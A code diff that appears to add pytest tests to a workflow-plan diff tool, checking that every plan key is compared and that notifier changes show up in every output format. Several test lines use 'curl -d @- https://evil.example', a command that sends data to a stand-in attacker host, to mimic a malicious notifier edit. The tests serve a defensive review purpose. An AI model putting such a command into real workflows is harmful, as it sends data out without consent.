@@ -2,21 +2,24 @@
 
 from __future__ import annotations
 
+import copy
 import json
 import shutil
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 from syrupy.assertion import SnapshotAssertion
 
+from akm_run import planformat as pf
 from akm_run.plan import plan_hash
 from akmc.compiler import Session
-from akmc.diff import diff
+from akmc.diff import NOT_COMPARED, diff
 from akmc.render import diff as renderer
-from helpers import LANGUAGE_EXAMPLE, REPO, run_cli, source
+from helpers import LANGUAGE_EXAMPLE, REPO, committed, edit, run_cli, source
 
 EDITS = {
     "workflows/release.akm": [
@@ -204,3 +207,104 @@ def test_every_pair_of_golden_plans_diffs_cleanly() -> None:
             assert difference.equal == (difference.changes == [])
             renderer.render(difference)
             json.dumps(difference.to_json())
+
+
+# -- every top-level plan key that affects a run is compared -----------------------------------
+
+NOTIFY = {"on": ["failed"], "target": {"kind": "shell", "command": "echo ok"}}
+# How a test changes each top-level key of the plan definition. A key the definition gains fails
+# the test below until it is given a change here (and `akmc diff` reports it) or is listed in
+# akmc.diff.NOT_COMPARED with why no change of it can go unseen.
+CHANGES: dict[str, Callable[[dict[str, Any]], None]] = {
+    "irVersion": lambda p: p.update(irVersion=2),
+    "ref": lambda p: p.update(ref="workflows/other"),
+    "title": lambda p: p.update(title="Other"),
+    "description": lambda p: p.update(description="Something else."),
+    "sourceReadSet": lambda p: p["sourceReadSet"].append({"path": "workflows/other.akm"}),
+    "limits": lambda p: p["limits"].update(concurrency=p["limits"]["concurrency"] + 1),
+    "steps": lambda p: p["steps"][0].update(onError="continue"),
+    "params": lambda p: p.setdefault("params", {}).update(extra={"schema": {"type": "string"}}),
+    "outputs": lambda p: p.setdefault("outputs", {}).update(extra={"from": "params.channel"}),
+    "notify": lambda p: p["notify"]["target"].update(command="curl -d @- https://evil.example"),
+}
+_SECTION = {"sourceReadSet": "readSet", **{key: "workflow" for key in ("irVersion", "ref", "title", "description")}}
+
+
+@pytest.mark.parametrize("key", sorted(pf.Plan.__annotations__))
+def test_every_top_level_plan_key_is_compared_or_deliberately_not(key: str) -> None:
+    if key in NOT_COMPARED:
+        return
+    assert key in CHANGES, f"say how `akmc diff` compares the plan key `{key}`, or why not in NOT_COMPARED"
+    old = {**_plan(LANGUAGE_EXAMPLE), "notify": NOTIFY}
+    new = copy.deepcopy(old)
+    CHANGES[key](new)
+    result = diff(old, new)
+    section = _SECTION.get(key, key)
+    shown = [c for c in result.changes if c.section == section]
+    assert shown and (section != "workflow" or [c.name for c in shown] == [key]), result.changes
+    assert renderer.render(result).count("\n") > 2  # the change is shown, not only the hashes
+
+
+def test_not_compared_names_only_keys_of_the_plan() -> None:
+    assert set(NOT_COMPARED) <= set(pf.Plan.__annotations__)
+
+
+def _notify_workspace(root: Path) -> None:
+    (root / "workflows").mkdir(parents=True)
+    (root / "akm.toml").write_text("")
+    (root / "workflows" / "deploy.akm").write_text(
+        source("""
+            workflow "d" {
+              notify {
+                on = [failed]
+                shell "echo ok"
+                env {
+                  A = "1"
+                }
+              }
+              step a {
+                shell "echo 1"
+              }
+            }
+        """)
+    )
+
+
+def test_a_changed_notifier_is_shown_in_every_format(tmp_path: Path) -> None:
+    """The notifier runs a command: a changed command, event list, env or timeout is a change a
+    reviewer must see, in the two-file diff, as JSON, and against a revision as text and Markdown."""
+    _notify_workspace(tmp_path)
+    committed(tmp_path)
+    original = (tmp_path / "workflows" / "deploy.akm").read_text()
+    edit(
+        tmp_path / "workflows" / "deploy.akm",
+        'on = [failed]\n    shell "echo ok"',
+        'on = [failed, completed]\n    shell "curl -d @- https://evil.example"\n    timeout = 5s',
+    )
+    edit(tmp_path / "workflows" / "deploy.akm", 'A = "1"', 'A = "2"')
+    for output_format in ("text", "markdown"):
+        rev = run_cli("diff", "--rev", "HEAD", "--format", output_format, cwd=tmp_path)
+        assert rev.returncode == 1, rev.stderr
+        assert "1 workflow changed against HEAD: 1 notifier changed" in rev.stdout
+        assert "curl -d @- https://evil.example" in rev.stdout and "echo ok" in rev.stdout
+    (tmp_path / "before.akm").write_text(original)
+    text = run_cli("diff", "before.akm", "workflows/deploy.akm", cwd=tmp_path)
+    assert text.returncode == 1, text.stderr
+    assert 'notify:\n  ~ notify: on ["failed"] -> ["completed", "failed"];' in text.stdout
+    assert "timeoutMs (none) -> 5s" in text.stdout and '"value": "2"' in text.stdout
+    assert "        - echo ok\n        + curl -d @- https://evil.example\n" in text.stdout
+    document = json.loads(
+        run_cli("diff", "before.akm", "workflows/deploy.akm", "--format", "json", cwd=tmp_path).stdout
+    )
+    [notify] = [c for c in document["changes"] if c["section"] == "notify"]
+    assert notify["op"] == "~" and notify["new"]["target"]["command"] == "curl -d @- https://evil.example"
+
+
+def test_an_added_notifier_is_shown_in_full_and_a_removed_one_by_its_events(tmp_path: Path) -> None:
+    _notify_workspace(tmp_path)
+    plain = tmp_path / "plain.akm"
+    plain.write_text('workflow "d" {\n  step a {\n    shell "echo 1"\n  }\n}\n')
+    added = run_cli("diff", "plain.akm", "workflows/deploy.akm", cwd=tmp_path).stdout
+    assert 'notify:\n  + notify: on failed  [shell]\n      command: echo ok\n      env:\n        A = "1"\n' in added
+    removed = run_cli("diff", "workflows/deploy.akm", "plain.akm", cwd=tmp_path).stdout
+    assert "notify:\n  - notify: on failed  [shell]\n" in removed and "echo ok" not in removed
